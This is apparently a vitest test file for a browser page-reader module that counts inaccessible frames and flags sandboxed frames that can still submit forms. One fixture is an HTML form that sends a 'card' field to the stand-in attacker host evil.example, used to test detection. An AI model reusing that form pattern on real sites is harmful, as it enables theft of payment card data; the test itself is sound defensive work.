/**
 * Frames of the page's own that it cannot enter: each that may answer is counted, however its markup tries to pass for something
 * else, and none answers for a place that its own markup has chosen.
 */
import { afterEach, beforeEach, describe, expect, test, vi } from 'vitest';
import { openPage, readPage } from './page-of.ts';

afterEach(() => vi.unstubAllGlobals());

const OWN = { scheme: 'https', host: 'shop.example', port: 0 };
const FORM = '&lt;form action=http://evil.example target=_blank&gt;&lt;input name=card&gt;';
const SENDS = 'sandbox="allow-forms allow-popups"';

/** What is counted, in a browser that lets the page into none of its frames. */
async function read(markup: string) {
  const { foreignFrames, sandboxedSenders } = await readPage(markup, {
    before: ({ HTMLIFrameElement, HTMLObjectElement }) => {
      for (const { prototype } of [HTMLIFrameElement, HTMLObjectElement])
        Object.defineProperty(prototype, 'contentDocument', { get: () => null });
    },
  });
  return {
    own: foreignFrames.find(({ host }) => host === OWN.host)?.count ?? 0,
    sandboxedSenders: sandboxedSenders.length,
  };
}

test.each([
  [`<iframe ${SENDS} srcdoc="${FORM}"></iframe>`, 1, 1],
  [`<iframe src="chrome-extension://x/" ${SENDS} srcdoc="${FORM}"></iframe>`, 1, 1],
  [`<iframe src="moz-extension://x/" sandbox srcdoc="x"></iframe>`, 1, 0],
  [`<iframe type="image/png" sandbox srcdoc="x"></iframe>`, 1, 0],
  ['<iframe type="image/png" src="/card"></iframe>', 1, 0],
  ['<iframe src="x-extension://y/"></iframe>', 1, 0],
  // What holds no document of the page's.
  ['<object type="image/png" data="/card.png"></object>', 0, 0],
  ['<iframe src="chrome-extension://x/"></iframe>', 0, 0],
  ['<iframe src="moz-extension://x/"></iframe>', 0, 0],
  ['<iframe src="safari-web-extension://x/"></iframe>', 0, 0],
])('%s: %i counted, %i that may send', async (markup, own, sandboxedSenders) => {
  expect(await read(markup)).toEqual({ own, sandboxedSenders });
  expect(await read(`${markup}<iframe sandbox srcdoc="x"></iframe>`)).toEqual({
    own: own + 1,
    sandboxedSenders,
  });
});

test.each([
  ['about:srcdoc', ['https://shop.example'], 'https shop.example'],
  // The page around it does not want its origin told, or is shut off itself.
  ['about:srcdoc', ['null'], 'about '],
  ['about:srcdoc', ['null', 'https://shop.example'], 'about '],
  // A window that another page wrote.
  ['about:blank', [], 'https pay.example'],
])('a document at %s in %j with a base of its own is of %s', async (href, ancestorOrigins, whose) => {
  await openPage('<base href="https://pay.example/"><p>x', { url: href });
  vi.stubGlobal('location', { href, protocol: 'about:', ancestorOrigins });
  vi.resetModules();
  const { ownPlace } = await import('../../../src/observe/page-reader/foreign-parts.ts');
  const { scheme, host } = ownPlace();
  expect(`${scheme} ${host}`).toBe(whose);
});

describe('in a page that is isolated, which shuts off its own frames without any word in the markup', () => {
  beforeEach(() => Object.assign(globalThis, { crossOriginIsolated: true }));
  afterEach(() => Object.assign(globalThis, { crossOriginIsolated: undefined }));

  test.each([
    ['<iframe src="/inner"></iframe>', 1],
    ['<iframe src="blob:null/1"></iframe>', 1],
    ['<iframe srcdoc="<p>x"></iframe>', 1],
    ['<embed src="/inner">', 1],
    ['<iframe src="https://bank.example/"></iframe>', 0],
    ['<iframe src="chrome-extension://id/menu.html"></iframe>', 0],
    ['<iframe></iframe>', 0],
    ['<embed>', 0],
  ])('%s', async (markup, senders) => {
    expect((await read(markup)).sandboxedSenders).toBe(senders);
  });
});

test.each(['<iframe src="/inner"></iframe>', '<object data="/inner"></object>'])(
  'in any other page what is not sandboxed is not shut off: %s',
  async (markup) => {
    expect((await read(markup)).sandboxedSenders).toBe(0);
  },
);
